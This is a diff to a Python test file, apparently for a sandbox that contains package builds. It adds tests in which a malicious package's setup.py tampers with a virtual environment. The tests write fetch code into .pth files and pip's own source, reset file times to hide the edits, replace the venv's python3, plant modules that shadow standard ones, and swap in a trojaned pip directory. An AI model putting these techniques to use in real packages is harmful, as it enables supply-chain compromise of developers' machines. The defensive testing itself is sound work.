@@ -16,11 +16,13 @@ FACTS = {"stops": "attribution", "event": "flow.denied"}
 SETUP = "import os, subprocess, sys\n{script}\nfrom setuptools import setup\nsetup(name='evil', version='1.0')\n"
 
 
-def attack(t, script, makefile, *, made=True):
-    """`evil`, whose setup.py is `script`, is installed by `make`. In the control run the index is asked for
+def attack(t, script, makefile, *, made=True, prepared=()):
+    """`evil`, whose setup.py is `script`, is installed by `make`; `prepared`: files of a wheel of that name. In the control run the index is asked for
     `loot`; in the sandbox it is not."""
     index = PypiIndex()
     index.add_file("loot-1.0-py3-none-any.whl", wheel("loot", {"loot.py": ""}))
+    if prepared:
+        index.add_file("prepared-1.0-py3-none-any.whl", wheel("prepared", prepared))
     venv = t.project / ".venv"
     head = f"venv, index = {str(venv)!r}, {index.url()!r}\n"
     index.add_sdist("evil", {"setup.py": SETUP.format(script=head + script)})
@@ -93,3 +95,48 @@ def a_python_for_the_next_pip(t):
     attack(t, "os.remove(venv + '/bin/python3')\nopen(venv + '/bin/python3', 'w').write('#!/usr/bin/python3\\nimport "
            "urllib.request\\nurllib.request.urlopen(' + repr(index + 'loot/') + ')\\n')\nos.chmod(venv + '/bin/python3', 0o755)",
            [INSTALL, "-.venv/bin/pip install needy", "-.venv/bin/python3 -m pip install needy"])
+
+
+# ── the pip of an environment that the command has made, once a build has run ───────────────────
+
+MAKE = f"{PYTHON} -m venv .venv"
+FETCH = "'import urllib.request; urllib.request.urlopen(' + repr(index + 'loot/') + ')\\n'"
+SITE = "import glob\nsite = glob.glob(venv + '/lib/python3*/site-packages')[0]\n"
+NEXT = "-.venv/bin/pip install needy"
+NEXT_MODULE = "-.venv/bin/python3 -m pip install needy"
+
+
+def append(path):
+    return f"with open({path}, 'a') as file: file.write({FETCH})\n"
+
+
+def old_times(path):
+    return f"os.utime({path}, (1, 1))\n"
+
+
+def late(what, script, *, command=NEXT, before=(), prepared=()):
+    def body(t):
+        attack(t, script, [MAKE, *before, INSTALL, command], made=False, prepared=prepared)
+
+    body.__doc__ = f"The pip that make starts after a build is none where the build {what}"
+    test(time_limit=150)(body)
+
+
+late("has left a .pth, with the times of a file that was there",
+     SITE + append("site + '/a.pth'") + old_times("site + '/a.pth'"))
+late("has changed a file of pip's, and put back its times",
+     SITE + append("site + '/pip/_internal/cli/main.py'") + old_times("site + '/pip/_internal/cli/main.py'") +
+     old_times("site + '/pip/_internal/cli'"))
+late("has put another python3 in its place",
+     "os.remove(venv + '/bin/python3')\n" + "open(venv + '/bin/python3', 'w').write('#!/usr/bin/python3\\n' + "
+     + FETCH + ")\nos.chmod(venv + '/bin/python3', 0o755)\n" + old_times("venv + '/bin/python3'"))
+late("has left a module that pip looks for", SITE + append("site + '/attr.py'"))
+late("has left a module beside the program, where Python looks first", append("venv + '/bin/optparse.py'"))
+late("has left a module in the project, where `python -m` looks first",
+     append("os.path.dirname(venv) + '/pip.py'"), command=NEXT_MODULE)
+late("has renamed a directory into pip's place that a wheel brought before",
+     SITE + "os.rename(site + '/pip', site + '/was')\nos.rename(site + '/stash/pip', site + '/pip')\n",
+     before=("-.venv/bin/pip install prepared",), prepared={
+         "stash/pip/__init__.py": "", "stash/pip/_internal/__init__.py": "", "stash/pip/_internal/cli/__init__.py": "",
+         "stash/pip/_internal/cli/main.py": "import os, urllib.request\ndef main():\n"
+         "    urllib.request.urlopen(os.environ['PIP_INDEX_URL'] + 'loot/')\n"})
